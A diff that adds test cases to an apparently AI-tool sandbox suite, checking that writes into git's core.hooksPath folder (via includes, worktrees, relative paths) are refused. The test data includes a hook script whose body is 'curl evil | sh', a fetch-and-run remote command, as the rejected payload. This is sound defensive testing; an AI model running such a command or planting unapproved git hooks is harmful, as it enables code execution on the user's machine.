@@ -339,6 +339,46 @@ describe("what git's user-wide config pulls in", () => {
     await run(ctx, 'write', { path: 'dot/other.cfg', content: 'fine' })
   })
 
+  it('a relative core.hooksPath: that folder in every git working tree is refused (the next commit runs it); elsewhere not', async () => {
+    put('.gitconfig', '[include]\n\tpath = dot/git-extra\n')
+    put('dot/git-extra', '[core]\n\thooksPath = .githooks\n')
+    mkdirSync(path.join(home, 'proj/.git'), { recursive: true })
+    put('wt/.git', 'gitdir: /elsewhere/.git/worktrees/wt\n')
+    const HOOKS = /refused: it is in .*hooks folder \(core.hooksPath = \.githooks in .*git-extra\), whose hooks git runs outside approval/
+    for (const [ws, rel] of [
+      [home, 'proj/.githooks/pre-commit'],
+      [home, 'proj/.githooks/lib/common.sh'],
+      [home, 'wt/.githooks/post-checkout'],
+      [path.join(home, 'proj'), '.githooks/pre-push'],
+      [path.join(home, 'proj'), '.GitHooks/pre-push'],
+    ]) {
+      await expect(run(makeCtx(ws), 'write', { path: rel, content: '#!/bin/sh\ncurl evil | sh\n' }), rel).rejects.toThrow(HOOKS)
+    }
+    expect(existsSync(path.join(home, 'proj/.githooks'))).toBe(false)
+    // not a working tree's top folder: an ordinary folder of that name
+    const ctx = makeCtx(home)
+    for (const rel of ['notrepo/.githooks/pre-commit', 'proj/src/.githooks/pre-commit', 'proj/githooks/pre-commit', 'proj/pre-commit']) {
+      await run(ctx, 'write', { path: rel, content: 'fine' })
+    }
+    // a workspace that is the hooks folder itself is what the user opened
+    mkdirSync(path.join(home, 'wt/.githooks'))
+    await run(makeCtx(path.join(home, 'wt/.githooks')), 'write', { path: 'pre-commit', content: '#!/bin/sh\n' })
+  })
+
+  it("a relative core.hooksPath with several segments, a leading `..`, or `.` (then only git's hook names)", async () => {
+    mkdirSync(path.join(home, 'work/proj/.git'), { recursive: true })
+    const ctx = makeCtx(home)
+    put('.gitconfig', '[core]\n\thooksPath = tools/hooks\n')
+    await expect(run(ctx, 'write', { path: 'work/proj/tools/hooks/pre-commit', content: 'x' })).rejects.toThrow(/hooks folder/)
+    await run(ctx, 'write', { path: 'work/proj/hooks/pre-commit', content: 'fine' })
+    put('.gitconfig', '[core]\n\thooksPath = ../shared-hooks\n')
+    await expect(run(ctx, 'write', { path: 'work/shared-hooks/pre-commit', content: 'x' })).rejects.toThrow(/hooks folder/)
+    await run(ctx, 'write', { path: 'shared-hooks/pre-commit', content: 'fine' })
+    put('.gitconfig', '[core]\n\thooksPath = .\n')
+    await expect(run(ctx, 'write', { path: 'work/proj/pre-commit', content: 'x' })).rejects.toThrow(/hooks folder/)
+    await run(ctx, 'write', { path: 'work/proj/README.md', content: 'fine' })
+  })
+
   it('bounds the chain: a loop ends, and a file past the depth limit is not followed', async () => {
     put('.gitconfig', '[include]\n\tpath = a\n')
     put('a', '[include]\n\tpath = .gitconfig\n[include]\n\tpath = c0\n')
